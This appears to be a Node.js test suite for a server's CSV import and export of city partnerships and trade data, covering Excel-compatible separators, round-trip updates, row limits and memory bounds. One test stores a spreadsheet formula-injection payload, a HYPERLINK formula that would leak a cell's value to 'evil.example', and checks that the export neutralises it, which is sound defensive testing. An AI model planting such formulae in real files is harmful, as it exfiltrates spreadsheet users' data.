// CSV in and out (issue 12): imports linear in memory and bounded in rows,
// exports that a spreadsheet opens safely (byte order mark, formulae
// neutralised), and what was exported imports back, updating by key —
// also when a Russian-locale Excel saved it with ';' separators.
//
// CSV_BIG_ROWS (default 50000) sets the size of the large import.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import { after, before, test } from 'node:test';

import { BIN, DEMO, allPages, assertJson, assertProblem, findCity, signInAll, startServer } from './lib/server.mjs';

const BOM = '\uFEFF';
const CSV = { 'Content-Type': 'text/csv' };
const BIG_ROWS = Number(process.env.CSV_BIG_ROWS || 50000);
// RSS growth allowed for the large import: the goal is 64 MB. Under ASan freed
// memory stays in quarantine (256 MB by default: cut to 16 MB for this server)
// and redzones and shadow memory add to every allocation.
const ASAN = /asan/.test(BIN);
const ASAN_ENV = ASAN ? { ASAN_OPTIONS: [process.env.ASAN_OPTIONS, 'quarantine_size_mb=16'].filter(Boolean).join(':') } : {};
const RSS_BOUND_MB = ASAN ? 256 : 64;
// The goal is seconds; the bound only says "not minutes", on a loaded machine.
const TIME_BOUND_S = ASAN ? 300 : 120;

let srv;
const c = {};
const city = {};

before(async () => {
	srv = await startServer({ env: ASAN_ENV });
	Object.assign(c, await signInAll(srv, DEMO));
	for (const [k, q, cc] of [['moscow', 'Moscow', 'RU'], ['minsk', 'Minsk', 'BY'], ['yerevan', 'Yerevan', 'AM'],
		['baku', 'Baku', 'AZ'], ['tbilisi', 'Tbilisi', 'GE'], ['harbin', 'Harbin', 'CN']])
		city[k] = await findCity(srv, q, cc);
});

after(async () => {
	await srv?.stop();
});

// Resets the peak memory of a process (VmHWM) to what it holds now.
function resetPeak(pid) {
	fs.writeFileSync(`/proc/${pid}/clear_refs`, '5');
}

// The memory the server's process holds now and at its peak, in kB.
function memory(pid) {
	const status = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
	const kb = (name) => Number(status.match(new RegExp(`^${name}:\\s+(\\d+) kB`, 'm'))[1]);
	return { rss: kb('VmRSS'), hwm: kb('VmHWM') };
}

// Splits an export into its lines of cells (no quoted line breaks in these).
function rows(text, sep) {
	assert.ok(text.startsWith(BOM), 'an export starts with the UTF-8 byte order mark');
	return text.slice(1).split('\r\n').filter((l) => l !== '').map((l) => l.split(sep));
}

async function importCsv(client, path, body, status = 200) {
	const r = await client.api('POST', path, { body, headers: CSV, timeout: TIME_BOUND_S * 1000 });
	return status === 200 ? assertJson(r, 200) : r;
}

test('every CSV export starts with a byte order mark and neutralises formulae in text cells', async () => {
	const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
	const p = assertJson(await c.admin.api('POST', '/partnerships', { body: { city_a_id: city.yerevan.id,
		city_b_id: city.baku.id, kind: 'cooperation', note_en: evil, note_ru: '-2+3', since: '2001' } }), 201);
	const ex = await c.staff.api('GET', '/partnerships.csv');
	assert.equal(ex.status, 200);
	assert.ok(ex.raw.subarray(0, 3).equals(Buffer.from([0xEF, 0xBB, 0xBF])), 'BOM bytes');
	const line = ex.text.split('\r\n').find((l) => l.startsWith(`${p.id},`));
	assert.ok(line.includes(`,"'-2+3","'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), line);
	assert.ok(line.includes(',2001,'), 'a year is not a formula');
	// the same file imported back changes nothing: the quote is dropped again
	const back = await importCsv(c.admin, '/partnerships.csv', ex.text);
	assert.deepEqual([back.inserted, back.updated, back.refused], [0, 0, 0]);
	assert.equal(back.unchanged, ex.text.trim().split('\r\n').length - 1);
	const again = assertJson(await c.admin.api('GET', `/partnerships/${p.id}`), 200);
	assert.deepEqual([again.note_en, again.note_ru], [evil, '-2+3']);

	const rm = await c.partner.api('GET', '/agreements?limit=1');
	const agreements = assertJson(rm, 200).items;
	assert.ok(agreements.length > 0);
	for (const path of ['/trade.csv', `/agreements/${agreements[0].id}/roadmap.csv`]) {
		const r = await c.staff.api('GET', path);
		assert.equal(r.status, 200, path);
		assert.match(r.headers['content-type'], /^text\/csv; charset=utf-8/);
		assert.ok(r.text.startsWith(BOM), `${path}: BOM`);
	}
	assertProblem(await c.staff.api('GET', '/partnerships.csv?sep=pipe'), 400, 'validation_failed');
	assert.equal((await c.admin.api('DELETE', `/partnerships/${p.id}`)).status, 204);
});

test('partnerships: export with ";", edit in Cyrillic, import back: updated by key, not duplicated', async () => {
	const ex = await c.staff.api('GET', `/partnerships.csv?city=${city.moscow.id}&sep=semicolon`);
	assert.equal(ex.status, 200);
	const table = rows(ex.text, ';');
	assert.deepEqual(table[0], ['id', 'city_a_geonames_id', 'city_a', 'city_b_geonames_id', 'city_b', 'kind', 'since',
		'status', 'published', 'note_ru', 'note_en']);
	const minsk = table.findIndex((r) => r[3] === String(city.minsk.geonames_id));
	assert.ok(minsk > 0, 'Moscow–Minsk is in the export');
	const id = Number(table[minsk][0]);
	const before = assertJson(await c.staff.api('GET', `/partnerships/${id}`), 200);
	// as a person would in Excel: a note in Russian with the separator in it, the status changed
	table[minsk][9] = '"Дорожная карта; обновлено ""2025"""';
	table[minsk][7] = 'frozen';
	const edited = BOM + table.map((r) => r.join(';')).join('\r\n') + '\r\n';
	const rep = await importCsv(c.staff, '/partnerships.csv', edited);
	assert.deepEqual([rep.applied, rep.inserted, rep.updated, rep.unchanged, rep.refused],
		[true, 0, 1, table.length - 2, 0]);
	assert.deepEqual(rep.lines, []);
	const after = assertJson(await c.staff.api('GET', `/partnerships/${id}`), 200);
	assert.equal(after.note_ru, 'Дорожная карта; обновлено "2025"');
	assert.equal(after.status, 'frozen');
	assert.equal(after.note_en, before.note_en);
	assert.equal(after.history.at(-1).status, 'frozen', 'the status change is in the history');
	// the same file again: nothing to do
	const again = await importCsv(c.staff, '/partnerships.csv', edited);
	assert.deepEqual([again.inserted, again.updated, again.unchanged], [0, 0, table.length - 1]);

	// without the id column the two cities are the key, in either order; absent columns keep their values
	const byPair = await importCsv(c.staff, '/partnerships.csv', 'city_b_geonames_id\tcity_a_geonames_id\tstatus\r\n' +
		`${city.moscow.geonames_id}\t${city.minsk.geonames_id}\tactive\r\n` +
		`${city.moscow.geonames_id}\t${city.tbilisi.geonames_id}\t\r\n`, 400);
	const refused = assertProblem(byPair, 400, 'import_refused');
	assert.deepEqual(refused.report.lines.map((l) => [l.line, l.errors.map((e) => `${e.field}:${e.code}`).join()]),
		[[3, 'kind:required']], 'a new partnership needs a kind');
	assert.equal(refused.report.updated, 1);
	assert.equal(assertJson(await c.staff.api('GET', `/partnerships/${id}`), 200).status, 'frozen', 'rolled back');
	const ok = await importCsv(c.staff, '/partnerships.csv', 'city_b_geonames_id\tcity_a_geonames_id\tstatus\r\n' +
		`${city.moscow.geonames_id}\t${city.minsk.geonames_id}\tactive\r\n`);
	assert.deepEqual([ok.inserted, ok.updated], [0, 1]);
	const restored = assertJson(await c.staff.api('GET', `/partnerships/${id}`), 200);
	assert.deepEqual([restored.status, restored.note_ru, restored.kind], ['active', 'Дорожная карта; обновлено "2025"', before.kind]);
	// an id that is not there, and one of another city's partnership for staff of Moscow
	const bad = assertProblem(await c.staff.api('POST', '/partnerships.csv', { headers: CSV, body:
		'id,city_a_geonames_id,city_b_geonames_id,kind\r\n' +
		`99999999,${city.moscow.geonames_id},${city.tbilisi.geonames_id},partner\r\n` }), 400, 'import_refused');
	assert.deepEqual(bad.report.lines[0].errors.map((e) => `${e.field}:${e.code}`), ['id:not_found']);
	// put it back as it was
	await importCsv(c.staff, '/partnerships.csv', 'id,city_a_geonames_id,city_b_geonames_id,note_ru\r\n' +
		`${id},${city.moscow.geonames_id},${city.minsk.geonames_id},${before.note_ru ?? ''}\r\n`);
});

test('trade: export, change a value in a ";" file with a decimal comma, import back', async () => {
	const ex = await c.staff.api('GET', '/trade.csv?sep=semicolon');
	assert.equal(ex.status, 200);
	assert.match(ex.headers['content-disposition'], /attachment; filename="trade.csv"/);
	const table = rows(ex.text, ';');
	assert.deepEqual(table[0], ['reporter_geonames_id', 'reporter', 'partner_country', 'partner_geonames_id', 'partner',
		'flow', 'period', 'value', 'currency', 'derived', 'note_ru', 'note_en']);
	const h1 = table.findIndex((r) => r[2] === 'BY' && r[5] === 'turnover' && r[6] === '2023-H1');
	assert.ok(h1 > 0, 'the demo series');
	assert.deepEqual(table[h1].slice(7, 10), ['9800000000', 'USD', 'false']);
	table[h1][7] = '9800000000,5';
	table[h1][10] = '"Оценка; предварительно"';
	const rep = await importCsv(c.staff, '/trade.csv', BOM + table.map((r) => r.join(';')).join('\r\n'));
	assert.deepEqual([rep.inserted, rep.updated, rep.unchanged, rep.refused], [0, 1, table.length - 2, 0]);
	const t = assertJson(await c.staff.api('GET', '/trade'), 200);
	const p = t.items.find((s) => s.partner_country === 'BY' && s.flow === 'turnover').points
		.find((x) => x.period === '2023-H1');
	assert.deepEqual([p.value, p.note_ru], [9800000000.5, 'Оценка; предварительно']);
	// a comma file keeps commas for thousands out: "1,5" is not a number there
	const comma = assertProblem(await c.staff.api('POST', '/trade.csv', { headers: CSV, body:
		'reporter_geonames_id,partner_country,flow,period,value,currency\r\n524901,BY,export,2031,"1,5",USD\r\n' }),
		400, 'import_refused');
	assert.deepEqual(comma.report.lines[0].errors.map((e) => e.field), ['value']);
	// back to the demo value, leaving the note alone (its column is absent)
	const back = await importCsv(c.staff, '/trade.csv', 'reporter_geonames_id,partner_country,flow,period,value,currency\r\n' +
		`${table[h1][0]},BY,turnover,2023-H1,9800000000,USD\r\n`);
	assert.deepEqual([back.updated, back.inserted], [1, 0]);
	// partners export only what they may see
	const partner = await c.partner.api('GET', '/trade.csv');
	assert.equal(partner.status, 200);
	assert.ok(rows(partner.text, ',').length > 1);
});

test('row limit: more data lines than --import-max-rows is 413 too_many_rows, before any work', async () => {
	const body = 'city_a_geonames_id,city_b_geonames_id,kind\r\n' +
		`${city.tbilisi.geonames_id},${city.harbin.geonames_id},partner\r\n`.repeat(100001);
	const r = assertProblem(await c.admin.api('POST', '/partnerships.csv', { headers: CSV, body, timeout: 60000 }),
		413, 'too_many_rows');
	assert.equal(r.max_rows, 100000);
	assertProblem(await c.admin.api('POST', '/trade.csv', { headers: CSV, body: 'a\n1\n'.repeat(50001) }),
		413, 'too_many_rows');
	const none = await allPages(c.admin, `/partnerships?city=${city.harbin.id}`);
	assert.ok(!none.some((p) => p.city_b.id === city.tbilisi.id), 'nothing written');
});

test(`a ${BIG_ROWS}-line import: memory linear in the file, one transaction, seconds`, async () => {
	// BIG_ROWS distinct pairs among the first cities of the gazetteer
	const ids = [];
	for (let cursor = null; ids.length < 400;) {
		const page = assertJson(await c.admin.api('GET', `/cities?limit=200${cursor ? `&cursor=${cursor}` : ''}`), 200);
		ids.push(...page.items.map((x) => x.geonames_id));
		cursor = page.next_cursor;
	}
	const lines = ['city_a_geonames_id,city_b_geonames_id,kind,since,status,published,note_ru,note_en'];
	for (let i = 0; i < ids.length && lines.length <= BIG_ROWS; i++)
		for (let j = i + 1; j < ids.length && lines.length <= BIG_ROWS; j++)
			lines.push(`${ids[i]},${ids[j]},cooperation,2024,active,false,` +
				`"Соглашение №${lines.length}, раздел ${i}",Agreement no. ${lines.length} of ${i}/${j}`);
	const body = Buffer.from(lines.join('\r\n') + '\r\n');
	const pid = srv.child.pid;
	resetPeak(pid);
	const before = memory(pid);
	const t0 = process.hrtime.bigint();
	const rep = await importCsv(c.admin, '/partnerships.csv', body);
	const seconds = Number(process.hrtime.bigint() - t0) / 1e9;
	const after = memory(pid);
	const growthMb = (after.hwm - before.rss) / 1024;
	console.log(`# csv import: ${BIG_ROWS} lines, ${(body.length / 1e6).toFixed(2)} MB in ${seconds.toFixed(2)} s;` +
		` server RSS ${(before.rss / 1024).toFixed(1)} MB before, peak ${(after.hwm / 1024).toFixed(1)} MB,` +
		` growth ${growthMb.toFixed(1)} MB${ASAN ? ' (ASan)' : ''}`);
	assert.deepEqual([rep.applied, rep.inserted + rep.updated, rep.refused], [true, BIG_ROWS, 0]);
	assert.ok(rep.inserted > BIG_ROWS - 100, 'a few pairs may be the demo\'s');
	// the search index has them (indexed once, at the end of the transaction)
	const found = assertJson(await c.admin.api('GET', `/search?q=${BIG_ROWS}&kind=partnership`), 200);
	assert.equal(found.items.filter((h) => h.kind === 'partnership').length, 1, JSON.stringify(found).slice(0, 300));
	assert.ok(growthMb < RSS_BOUND_MB, `RSS grew ${growthMb.toFixed(1)} MB (bound ${RSS_BOUND_MB} MB)`);
	assert.ok(seconds < TIME_BOUND_S, `${seconds.toFixed(1)} s (bound ${TIME_BOUND_S} s)`);
	// the export of all of them imports back as unchanged
	const t1 = process.hrtime.bigint();
	const ex = await c.admin.api('GET', '/partnerships.csv', { timeout: TIME_BOUND_S * 1000 });
	assert.equal(ex.status, 200);
	const back = await importCsv(c.admin, '/partnerships.csv', ex.raw);
	console.log(`# csv export and re-import: ${(ex.raw.length / 1e6).toFixed(2)} MB,` +
		` ${back.unchanged} unchanged, in ${(Number(process.hrtime.bigint() - t1) / 1e9).toFixed(2)} s`);
	assert.deepEqual([back.inserted, back.updated, back.refused], [0, 0, 0]);
	assert.ok(back.unchanged >= BIG_ROWS);
});
